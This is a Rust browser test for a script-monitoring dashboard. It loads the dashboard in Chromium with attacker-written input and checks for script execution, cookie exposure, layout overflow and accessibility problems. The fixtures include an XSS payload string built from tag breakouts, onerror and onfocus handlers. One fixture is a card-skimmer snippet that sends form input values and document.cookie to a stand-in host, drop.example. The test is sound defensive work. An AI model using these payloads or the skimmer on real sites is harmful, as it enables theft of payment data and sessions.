//! The dashboard in a real browser, full of what attackers write. With `AXE_CORE=/path/to/axe.min.js` (`npm install axe-core`) the
//! pages are looked at by axe as well; with `SHOTS=FOLDER` pictures of them are kept.

#![allow(clippy::unwrap_used, reason = "what is not as expected fails the test")]

use std::time::Duration;

use crate::door::{Door, now, see};
use crate::support::provided;
use crate::webdriver::Browser;
use monitor::Observation;
use serde_json::json;

const HOSTILE: &str = "</textarea></script></title><img src=x onerror=window.pwned=1><b id=pwned>'onfocus=window.pwned=1 autofocus x='\"\
                       onfocus=\"window.pwned=1\" autofocus x=\"";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_dashboard_in_chromium() {
    let Some(browser) = tokio::task::spawn_blocking(Browser::start).await.unwrap() else { return };
    let door = Door::open();
    let site = door
        .site("shop", |monitor| {
            let url = format!("https://cdn.example/{HOSTILE}.js");
            let page = format!("https://shop.example/{HOSTILE}");
            let theft = format!(
                "// {HOSTILE}\nvar cards = document.querySelectorAll('input');\nsetInterval(function () {{ new Image().src = \
                 'https://drop.example/?' + btoa(cards[0].value + document.cookie + {HOSTILE:?}); }}, 900);\n"
            );
            see(monitor, &url, &page, Some(&theft));
            let again = Observation::script(url.as_str()).on_page(page.as_str());
            monitor.observe(&again.with_source(format!("{theft}\nmore(1);")), now()).unwrap();
            monitor.observe(&Observation::connection("wss://chat.example/").on_page(page.as_str()), now()).unwrap();
            monitor.note_header_change(&page, vec![format!("x-frame-options was {HOSTILE}")], now()).unwrap();
        })
        .await;
    let versions = door.get("/api/v1/sites/shop/resources/1/versions").await.json();
    let hash = |at: usize| versions["versions"][at]["hash"].as_str().unwrap().to_owned();
    let said = json!({
        "justification": HOSTILE, "approve": true, "hash": hash(0), "owner": HOSTILE, "purpose": HOSTILE,
    });
    let mute = json!({ "resource": 1, "reason": HOSTILE, "until": "2999-01-01T00:00:00Z" });
    let policy = json!({
        "action": "log", "enabled": true, "description": HOSTILE, "value": "script-src 'self'",
        "expression": "http.request.uri.path contains \"<img src=x onerror=window.pwned=1>\"",
    });
    let cookie = format!("{HOSTILE}=1; Path=/{HOSTILE}; Domain=shop.example");
    let archive = json!({"log": {"pages": [{"id": "p", "title": format!("https://shop.example/{HOSTILE}")}], "entries": [
        {"pageref": "p", "request": {"url": "https://shop.example/pay", "headers": []}, "response": {
            "headers": [{"name": "Set-Cookie", "value": cookie}],
            "content": {"mimeType": "text/html", "text": format!("<script src=https://cdn.example/b.js integrity=\"{HOSTILE}\"></script>")}}},
    ]}});
    for (path, body) in [
        ("/api/v1/sites/shop/resources/1/justification", said),
        ("/api/v1/sites/shop/mutes", mute),
        ("/client/v4/zones/shop/page_shield/policies", policy),
        ("/observe/shop", archive),
    ] {
        let answer = door.ask(&door.token, axum::http::Method::POST, path, Some(body)).await;
        assert!(answer.status.is_success(), "{path}: {}", answer.text);
    }
    let kept = door.get("/client/v4/zones/shop/page_shield/cookies").await;
    assert!(kept.text.contains("<img src"), "{}", kept.text);

    let (base, stop) = door.listen().await;

    let (code, diff) = (
        format!("/sites/shop/resources/1/code/{}", hash(0)),
        format!("/sites/shop/resources/1/diff/{}/{}", hash(1), hash(0)),
    );
    let filter = format!("/sites/shop/scripts?{}", crate::door::form(&[("url", HOSTILE)]));
    let pages = [
        "/",
        "/sites/shop/scripts",
        &filter,
        "/sites/shop/connections",
        "/sites/shop/resources/1",
        "/sites/shop/resources/2",
        &code,
        &diff,
        "/sites/shop/alerts?all=true",
        "/sites/shop/policies",
        "/sites/shop/policies?page=*",
        "/sites/shop/cookies",
        "/sites/shop/payment",
        "/sites/shop/changes",
        "/changes",
        "/feeds",
        "/tokens",
        "/settings",
        "/scan",
    ]
    .map(str::to_owned);
    let token = door.token.clone();
    let looked = tokio::task::spawn_blocking(move || {
        let axe = provided("AXE_CORE").map(|path| std::fs::read_to_string(path).unwrap());
        browser.visit(&format!("{base}/login"));
        let mut problems = look(&browser, "/login", axe.as_deref());
        browser.keys("#token", &format!("{token}\u{e007}"));
        for _ in 0..100 {
            if browser.run("return location.pathname") == "/" {
                break;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        assert_eq!(browser.run("return document.querySelector('h1').textContent"), "Sites");
        for page in &pages {
            browser.visit(&format!("{base}{page}"));
            problems.extend(look(&browser, page, axe.as_deref()));
        }
        assert_eq!(browser.run("return document.cookie"), "", "no script sees the session");
        browser.visit(&format!("{base}/sites/shop/alerts"));
        (browser, problems)
    });
    let (browser, problems) = looked.await.unwrap();
    assert!(problems.is_empty(), "{}", problems.join("\n"));

    // What happens now is told on the open page. The stream is open once it holds one of the service's places.
    let mut told = json!("");
    for number in 0..100 {
        site.write(move |monitor| {
            see(monitor, &format!("https://late{number}.example/a.js"), "https://shop.example/", None);
            Ok(())
        })
        .await
        .unwrap();
        tokio::time::sleep(Duration::from_millis(300)).await;
        told =
            tokio::task::block_in_place(|| browser.run("return document.getElementById('live').textContent"));
        if told != "" {
            break;
        }
    }
    assert!(told.as_str().unwrap().contains("new alert"), "{told}");
    tokio::task::spawn_blocking(move || drop(browser)).await.unwrap();
    let _ = stop.send(true);
}

/// What is wrong with a page.
fn look(browser: &Browser, page: &str, axe: Option<&str>) -> Vec<String> {
    let mut problems = Vec::new();
    browser.run("for (const one of document.querySelectorAll('details')) one.open = true;");
    std::thread::sleep(Duration::from_millis(50));
    for (what, want) in [
        ("typeof window.pwned", json!("undefined")),
        (
            "document.querySelectorAll('#pwned, img, iframe, object, embed, base, style, [onerror], [onfocus], [style]').length",
            json!(0),
        ),
        ("document.scripts.length", json!(1)),
        ("[...document.querySelectorAll('a')].filter(a => a.origin !== location.origin).length", json!(0)),
    ] {
        let got = browser.run(&format!("return {what}"));
        if got != want {
            problems.push(format!("{page}: {what} is {got}"));
        }
    }
    problems.extend(
        browser
            .console()
            .into_iter()
            .filter(|line| !line.contains("favicon"))
            .map(|line| format!("{page}: {line}")),
    );
    for (width, scheme) in [(1280, "light"), (1280, "dark"), (360, "light")] {
        browser.resize(width, 800, scheme);
        let wide =
            browser.run("return document.documentElement.scrollWidth - document.documentElement.clientWidth");
        if wide.as_i64().unwrap() > 0 {
            problems.push(format!("{page}: is {wide} pixels wider than a window of {width}"));
        }
        if let Some(axe) = axe {
            browser.run(&format!("{axe}; window.axe = axe;"));
            let found = browser.run_until_done(
                "const done = arguments[arguments.length - 1];
                 window.axe.run().then(result => done(result.violations.map(one =>
                     one.id + ': ' + one.nodes.slice(0, 2).map(node => node.html.slice(0, 200)).join(' | '))), error => done(['axe: ' + error]));",
            );
            let found = found.as_array().unwrap().iter();
            problems.extend(found.map(|one| format!("{page}, {width} {scheme}: {one}")));
        }
        if let Some(folder) = std::env::var_os("SHOTS") {
            let plain: String =
                page.chars().map(|c| if c.is_ascii_alphanumeric() { c } else { '-' }).take(60).collect();
            let path = std::path::Path::new(&folder).join(format!("{plain}-{width}-{scheme}.png"));
            std::fs::write(path, browser.screenshot()).unwrap();
        }
    }
    browser.resize(1280, 800, "light");
    if axe.is_some() {
        // What axe itself does against the policy is no matter of the page.
        browser.console();
    }
    problems
}
